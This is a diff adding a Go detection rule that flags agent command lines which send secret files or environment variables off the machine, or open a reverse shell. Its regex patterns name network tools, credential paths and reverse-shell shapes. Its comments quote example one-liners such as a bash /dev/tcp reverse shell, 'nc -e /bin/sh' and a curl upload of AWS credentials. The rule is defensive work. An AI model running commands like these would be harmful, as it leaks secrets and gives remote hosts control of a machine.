@@ -1,0 +1,119 @@
+package injrules
+
+import "strings"
+
+// The egress checks of Exfiltrate (issue 27, agent egress): a command
+// line an agent is about to run that sends a local secret off the
+// machine, or hands the machine's shell to a remote host. Each is read on
+// the line of its anchor, a network tool (curl, wget, nc, ncat, netcat,
+// socat, scp, rsync, dig, nslookup, Invoke-WebRequest, Invoke-RestMethod,
+// iwr), a reverse shell's /dev/tcp/ or a script's dup2, environ or
+// readFileSync, and needs two things on that line:
+//
+//   - a source: a secret file (the read_secret rule's names: ~/.ssh keys
+//     but not their .pub halves, ~/.aws, .env, .netrc, .npmrc, .kube/config,
+//     /etc/passwd and /etc/shadow …, plus /proc/self/environ, a Kubernetes
+//     service-account token, gh and gcloud credentials) or the whole
+//     environment (env | …, $(env), printenv, os.environ, process.env);
+//   - a way out: the anchor itself, as the receiving end of a pipe or
+//     given the source as data (curl -d @file, -F f=@file, -T,
+//     --data-binary, --upload-file, wget --post-file, -InFile), or a
+//     command substitution inside its URL ($(cat ~/.aws/credentials)).
+//
+// A reverse shell needs no source: "bash -i >& /dev/tcp/host/port 0>&1",
+// "nc … -e /bin/sh", a Python socket duplicated onto stdin. Install
+// one-liners (curl … | sh) and uploads of ordinary files (curl -d
+// @payload.json, -F file=@build.log) name no source and are left to the
+// run_command rule. The window is one line of at most egressBack bytes
+// before the anchor and egressFwd after it.
+const (
+	egressBack = 320
+	egressFwd  = 400
+)
+
+// egressSource are the secret files and environment dumps a line may send.
+var egressSource = re(`(?:~|\$home|\$\{home\}|/home/[\w.-]+|/root|\$env:userprofile|%userprofile%)[/\\]\.(?:ssh|aws|kube|gnupg|docker|netrc|npmrc|pypirc|git-credentials|config[/\\](?:gh|gcloud))\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|/etc/(?:passwd|shadow|sudoers)\b|/proc/self/environ|serviceaccount/token|\.aws/credentials|\.git-credentials|(?:^|[\s@'"=/<])\.env\b|\b(?:env|printenv)\s*\||\$\((?:env|printenv|set)\)|\bos\.environ\b|\bprocess\.env\b`)
+
+// egressReverse are the shapes of a reverse shell.
+var egressReverse = re(`\b(?:ba|z|da)?sh\s+-i\s*[<>&]+\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[\w.-]+/\d+\s+0\s*>&\s*1|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}?\s-(?:e|c)\s*/bin/(?:ba|z|da)?sh\b|\bsocket\b[^\n]{0,200}?\bconnect\b[^\n]{0,200}?\b(?:dup2|pty\.spawn)\b`)
+
+// egressSink says the line sends: a pipe into a network tool, the tool
+// given a file or its standard input as data, or a substitution in the
+// tool's URL or name argument.
+var egressSink = re(`\|\s*(?:[^|\n]{0,80}\|\s*){0,3}(?:curl|wget|nc|ncat|netcat|socat|telnet|openssl\s+s_client)\b|\b(?:curl|wget)\b[^\n|;]{0,200}?(?:\s-(?:d|f|t)|--data(?:-binary|-raw|-urlencode)?|--form|--upload-file|--post-file|--post-data|--body-file)[\s=]*['"]?(?:[\w-]+=)?[@<]?|\b(?:curl|wget|dig|nslookup|host|ping)\b[^\n|;]{0,200}?\$\(|-infile\b|\b(?:scp|rsync)\b[^\n|;]{0,160}?\s\S+@?[\w.-]+:\S*|\brequests\.(?:post|put)\b|\burlopen\b|\bhttps?\.request\b|\bfetch\(|\b(?:dig|nslookup)\b`)
+
+// egressLine scores the window lo[m[0]:m[1]] around an anchor: the first
+// line of it that is a reverse shell (0.9, strong) or that sends a source
+// out (0.85, strong), whose span it then sets in m; 0 for none.
+func egressLine(lo string, m []int) (float64, bool) {
+	w := lo[m[0]:m[1]]
+	best := 0.0
+	off := 0
+	for line := range strings.SplitSeq(w, "\n") {
+		s, e := off, off+len(line)
+		off = e + 1
+		if len(line) < 8 {
+			continue
+		}
+		if egressReverse.MatchString(line) {
+			m[0], m[1] = m[0]+s, m[0]+e
+			return 0.9, true
+		}
+		if !egressSink.MatchString(line) {
+			continue
+		}
+		loc := egressSource.FindStringIndex(line)
+		if loc == nil {
+			continue
+		}
+		if rest := line[loc[1]:]; strings.HasPrefix(rest, ".pub") || strings.HasPrefix(rest, "_") {
+			continue
+		}
+		best = 0.85
+		m[0], m[1] = m[0]+s, m[0]+e
+		break
+	}
+	return best, best > 0
+}
+
+// egressChecks are this file's checks.
+var egressChecks = map[string]check{
+	"egress": {Exfiltrate, re(`[\s\S]+`), egressBack, egressFwd, egressLine},
+}
+
+// egressAnchors are the words that start the egress check.
+var egressAnchors = []string{"curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "rsync", "dig", "nslookup",
+	"invoke-webrequest", "invoke-restmethod", "iwr", "dup2", "environ", "readfilesync"}
+
+var _ = mergeEgress()
+
+// mergeEgress adds the egress check to the engine's tables the way
+// mergeJail does: a word that already anchors checks keeps them and its
+// next-word set, and gains this one.
+func mergeEgress() bool {
+	for name, c := range egressChecks {
+		if _, dup := checks[name]; dup {
+			panic("injrules: duplicate check " + name)
+		}
+		checks[name] = c
+	}
+	for _, w := range egressAnchors {
+		old, ok := wordAnchors[w]
+		if !ok {
+			wordAnchors[w] = anchor{[]string{"egress"}, ""}
+			continue
+		}
+		if old.next != "" {
+			panic("injrules: egress anchor " + w + " has a next-word set")
+		}
+		wordAnchors[w] = anchor{append(append([]string{}, old.checks...), "egress"), ""}
+	}
+	symbolAnchors = append(symbolAnchors, struct {
+		prefix string
+		checks []string
+	}{"/dev/tcp/", []string{"egress"}}, struct {
+		prefix string
+		checks []string
+	}{"/dev/udp/", []string{"egress"}})
+	return true
+}
